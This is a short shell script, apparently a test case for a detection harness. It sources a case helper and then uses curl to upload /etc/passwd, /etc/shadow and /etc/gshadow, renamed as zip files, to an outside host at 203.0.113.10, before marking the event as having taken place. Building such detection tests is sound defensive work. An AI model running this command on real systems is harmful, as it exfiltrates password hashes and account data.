#!/bin/sh
. /opt/case/case.sh

curl -s -F 'f1=@/etc/passwd;filename=a.zip' -F 'f2=@/etc/shadow;filename=b.zip' -F 'f3=@/etc/gshadow;filename=c.zip' http://203.0.113.10/up.php >/dev/null
took_place
